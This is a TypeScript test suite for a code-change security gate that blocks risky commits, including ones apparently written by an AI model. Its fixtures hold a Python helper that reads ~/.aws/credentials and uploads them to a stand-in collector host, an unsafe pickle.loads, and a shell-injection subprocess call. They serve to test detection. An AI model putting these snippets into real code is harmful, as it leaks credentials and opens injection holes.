import { type ChildProcess, spawn } from 'node:child_process';
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestRepositories, type TestRepository } from '../gate/git/repository.fixture.ts';
import { type GateResult, gateSchema } from '../gate/result.ts';

const MAIN = fileURLToPath(new URL('./main.ts', import.meta.url));
const repositories = new TestRepositories();
let home: string;
beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'glovebox-gate-'));
});
afterAll(() => {
  repositories.removeAll();
  rmSync(home, { recursive: true, force: true });
});

interface Ended {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function start({ folder }: TestRepository, args: readonly string[], env: NodeJS.ProcessEnv = {}): ChildProcess {
  return spawn(process.execPath, [MAIN, ...args], {
    cwd: folder,
    // A cache of this test's own: what is examined here is examined here.
    env: { ...process.env, XDG_CACHE_HOME: join(home, 'cache'), ...env },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
}

async function glovebox(repository: TestRepository, args: readonly string[], stdin = ''): Promise<Ended> {
  const child = start(repository, args);
  child.stdin?.end(stdin);
  let [stdout, stderr] = ['', ''];
  child.stdout?.on('data', (data) => (stdout += data));
  child.stderr?.on('data', (data) => (stderr += data));
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
  return { code, stdout, stderr };
}

async function gated(repository: TestRepository, ...args: string[]): Promise<GateResult & { code: number | null }> {
  const { code, stdout, stderr } = await glovebox(repository, ['gate', '--format', 'json', ...args]);
  if (stdout === '') throw new Error(stderr);
  return { ...gateSchema.parse(JSON.parse(stdout)), code };
}

const REPORT = `import json


def summary(rows):
    return {'rows': len(rows), 'total': sum(rows)}


if __name__ == '__main__':
    print(json.dumps(summary([1, 2, 3])))
`;
/** The guides' case: a helper that also takes credentials along. */
const UPLOADS = REPORT.replace('import json\n', 'import json\nimport os\nimport urllib.request\n')
  .replace(
    '\n\nif __name__',
    `
def metrics(text):
    with open(os.path.expanduser('~/.aws/credentials')) as file:
        text += file.read()
    urllib.request.urlopen('https://metrics.collector.example/v1', text.encode())


if __name__`,
  )
  .replace('print(json.dumps(', 'metrics(json.dumps(');

/** What a person may accept. */
const LOADS = 'import pickle\nimport sys\n\nprint(pickle.loads(sys.stdin.buffer.read() or pickle.dumps(1)))\n';

/** A repository whose branch `main` has a report, with a branch for the change. */
function withReport(files: Parameters<TestRepository['commit']>[0] = {}): TestRepository {
  const repository = repositories.make();
  repository.commit({ 'src/report.py': REPORT, 'README.md': '# Reports\n', ...files }, 'Report');
  repository.git('checkout', '-q', '-b', 'feature');
  return repository;
}

describe('the guides’ flows', () => {
  it('a clean change passes', async () => {
    const repository = withReport();
    repository.commit({ 'src/report.py': REPORT.replace("'total'", "'sum'") }, 'Name it sum');
    const { code, verdict, changes, difference } = await gated(repository, '--base', 'main');
    expect(code).toBe(0);
    expect(verdict).toMatchObject({ decision: 'allow', reasons: [] });
    expect(changes).toEqual({ files: 1, examined: 1, skipped: [] });
    expect(difference).toEqual({ added: [], removed: [] });
  });

  it('one with a hidden upload is blocked, and the added host stands in the first ten lines of the comment', async () => {
    const repository = withReport();
    repository.commit({ 'src/report.py': UPLOADS }, 'Count\n\nCo-Authored-By: Claude <noreply@anthropic.com>');
    const { code, stdout } = await glovebox(repository, ['gate', '--base', 'main', '--format', 'markdown']);
    expect(code).toBe(1);
    const lines = stdout.split('\n');
    expect(lines[0]).toBe('### ⛔ Glovebox: block, risk 100 of 100');
    const host = lines.findIndex((line) => line.includes('`metrics.collector.example:443`'));
    expect(host).toBeGreaterThan(0);
    expect(host).toBeLessThan(10);
    expect(lines[host]).toBe('| ＋ | connects to | `metrics.collector.example:443` | `src/report.py:12` | seen |');
    const { provenance, findings } = await gated(repository, '--base', 'main');
    expect(provenance).toMatchObject({ author: 'model' });
    expect(provenance.reasons[0]?.what).toContain('Claude Code');
    expect(findings.every(({ introduced }) => introduced)).toBe(true);
  });

  it('one that somebody accepted passes and says who, why and until when; one that the change accepts does not', async () => {
    const repository = withReport();
    repository.commit({ 'src/load.py': LOADS }, 'Count');
    const blocked = await gated(repository, '--base', 'main');
    const found = join(home, `${randomUUID()}.json`);
    writeFileSync(found, JSON.stringify(blocked));
    const { pem, signer } = key('jane@example.com');
    repository.write({ '.glovebox/allowed_signers': signer });
    for (const { fingerprint = '' } of blocked.findings) {
      const added = await glovebox(repository, [
        ...['override', 'add', fingerprint, '--report', found, '--key', pem],
        ...['--reason', 'Only the build writes that file, agreed in review 12', '--expires', '30d'],
      ]);
      expect(added.code, added.stderr).toBe(0);
    }
    repository.commit({}, 'Accept it in the same change');
    const own = await gated(repository, '--base', 'main');
    expect(own).toMatchObject({ code: 1, verdict: { decision: 'block' } });
    expect(own.difference.added.filter(({ kind }) => kind === 'policy').map(({ target }) => target)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^accepts input-deserialized in src\/load\.py: jane@example\.com until/),
      ]),
    );

    // The same on main, as somebody who may decide about it would have merged it.
    repository.git('checkout', '-q', 'main');
    repository.git('checkout', 'feature', '--', '.glovebox');
    repository.commit({}, 'Accept');
    repository.git('checkout', '-q', 'feature~1');
    const { code, stdout } = await glovebox(repository, ['gate', '--base', 'main']);
    expect(code).toBe(0);
    const until = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    expect(stdout.replace(/\s+/g, ' ')).toContain(
      `accepted jane@example.com until ${until}, “Only the build writes that file, agreed in review 12”`,
    );
    expect(stdout).toMatch(/^ALLOW {2}risk 0\/100/);
  });
});

/** A private key in a file, and its line in a list of trusted ones. */
function key(principal: string): { pem: string; signer: string } {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const pem = join(home, `${randomUUID()}.pem`);
  writeFileSync(pem, privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
  const raw = Buffer.from(publicKey.export({ format: 'jwk' }).x ?? '', 'base64url');
  const field = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
  const blob = Buffer.concat([field(Buffer.from('ssh-ed25519')), field(raw)]).toString('base64');
  return { pem, signer: `${principal} ssh-ed25519 ${blob}\n` };
}

describe('the base decides', () => {
  it('its policy applies where the change edits it, and the edit is told', async () => {
    const repository = withReport({ 'glovebox.policy.yaml': 'thresholds: { review: 5, block: 5 }\n' });
    repository.commit({
      'glovebox.policy.yaml': 'thresholds: { review: 100, block: 100 }\n',
      'src/report.py': `import subprocess\n${REPORT}    subprocess.run('ls ' + input(), shell=True)\n`,
    });
    const { code, verdict, difference, concerns } = await gated(repository, '--base', 'main');
    expect(code).toBe(1);
    expect(verdict.decision).toBe('block');
    expect(difference.added.filter(({ kind }) => kind === 'policy')).toMatchObject([
      { target: 'thresholds.review: 100', file: 'glovebox.policy.yaml', line: 1 },
      { target: 'thresholds.block: 100' },
    ]);
    expect(difference.removed.map(({ target }) => target)).toContain('thresholds.block: 5');
    expect(concerns.map(({ kind }) => kind)).toEqual(['gate-changed']);
  });

  it('a change of the policy alone needs a person', async () => {
    const repository = withReport();
    repository.commit({ 'glovebox.policy.yaml': 'thresholds: { review: 100, block: 100 }\n' });
    expect(await gated(repository, '--base', 'main', '--fail-on', 'review')).toMatchObject({
      code: 1,
      verdict: { decision: 'review', reasons: ['gate-changed'] },
    });
  });

  it('what is renamed, moved or deleted, and what is no text', async () => {
    const repository = withReport({ 'src/old.py': UPLOADS, 'src/gone.py': "import os\nos.system('git log')\n" });
    repository.git('mv', 'src/old.py', 'src/new.py');
    repository.commit({
      'src/new.py': `# moved\n\n${UPLOADS}`,
      'src/gone.py': null,
      'data.bin': Buffer.from([0, 1, 2, 3, 0xff]),
    });
    const { verdict, findings, inherited, changes, difference } = await gated(repository, '--base', 'main');
    expect(findings.filter(({ introduced }) => introduced)).toEqual([]);
    expect(inherited).toBeGreaterThan(3);
    expect(difference.added).toEqual([]);
    expect(difference.removed[0]).toMatchObject({ kind: 'command', target: 'git log', file: 'src/gone.py', line: 2 });
    expect(new Set(difference.removed.map(({ file }) => file))).toEqual(new Set(['src/gone.py']));
    expect(changes.skipped.map(({ file }) => file)).toContain('data.bin');
    expect(verdict.reasons.every((reason) => reason === 'not-examined')).toBe(true);
  });
});

it('time that ends is told, and needs a person', async () => {
  const repository = withReport();
  repository.commit({ 'src/report.py': `${REPORT}\nwhile True:\n    pass\n` });
  const result = await gated(repository, '--base', 'main', '--budget', '1s', '--fail-on', 'review');
  expect(result).toMatchObject({ code: 1, verdict: { decision: 'review', reasons: ['out-of-time'] } });
  expect(result.concerns[0]?.message).toContain('1 of 1 programs');
});

it('every format is written, to files as well', async () => {
  const repository = withReport();
  repository.commit({ 'src/report.py': UPLOADS });
  const names = ['out.json', 'out.sarif', 'out.md', 'out.xml'].map((name) => join(home, name));
  const { stdout } = await glovebox(repository, [
    ...['gate', '--base', 'main', '--format', 'github', '--quiet'],
    ...names.flatMap((name) => ['--output', name]),
  ]);
  expect(stdout).toMatch(/^::error file=src\/report\.py,line=12,title=/);
  const [json = '', sarif = '', markdown = '', xml = ''] = names.map((name) => readFileSync(name, 'utf8'));
  expect(gateSchema.parse(JSON.parse(json)).verdict.decision).toBe('block');
  expect(JSON.parse(sarif).runs[0].results[0]).toMatchObject({ baselineState: 'new' });
  expect(markdown).toContain('### ⛔');
  expect(xml).toContain('<failure type="critical"');
});

it('a pre-push hook’s words are obeyed, and a push that only deletes brings nothing', async () => {
  const repository = withReport();
  const head = repository.commit({ 'src/report.py': UPLOADS });
  const zeros = '0'.repeat(40);
  const base = repository.git('rev-parse', 'main');
  const pushed = await glovebox(
    repository,
    ['gate', '--pre-push', '--quiet'],
    `refs/heads/feature ${head} refs/heads/feature ${base}\n`,
  );
  expect(pushed).toMatchObject({ code: 1, stdout: expect.stringMatching(/^BLOCK/) });
  const gone = await glovebox(repository, ['gate', '--pre-push'], `(delete) ${zeros} refs/heads/feature ${head}\n`);
  expect(gone).toMatchObject({ code: 0, stdout: '' });
});

it.each([
  [['gate'], 'no base was given'],
  [['gate', '--base', 'nowhere'], 'nowhere'],
  [['gate', '--base', 'main', '--budget', 'soon'], '20m'],
  [['gate', '--base', 'main', '--output', 'a.html'], '.sarif'],
])('%j is refused with 2', async (args, told) => {
  const { code, stderr } = await glovebox(withReport(), args);
  expect(code).toBe(2);
  expect(stderr).toContain(told);
});

it('an interrupted gate ends at once, and leaves no process', async () => {
  const repository = withReport();
  repository.commit({ 'src/report.py': 'while True:\n    pass\n' });
  const child = start(repository, ['gate', '--base', 'main']);
  const ended = new Promise<number | null>((resolve) => child.once('close', resolve));
  let below: readonly number[] = [];
  while (!below.some((pid) => commandOf(pid).includes('warden'))) {
    below = descendants(child.pid ?? 0);
    await pause();
  }
  child.kill('SIGINT');
  expect(await ended).toBe(130);
  for (let wait = 0; wait < 50 && below.some((pid) => commandOf(pid) !== ''); wait++) await pause();
  expect(below.map(commandOf).filter(Boolean)).toEqual([]);
});

function pause(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 100));
}

function descendants(pid: number): number[] {
  const children = read(`/proc/${pid}/task/${pid}/children`).split(' ').filter(Boolean).map(Number);
  return children.flatMap((child) => [child, ...descendants(child)]);
}

function commandOf(pid: number): string {
  return read(`/proc/${pid}/cmdline`);
}

/** Empty for a process that has gone. */
function read(path: string): string {
  try {
    return readFileSync(path, 'latin1');
  } catch {
    return '';
  }
}
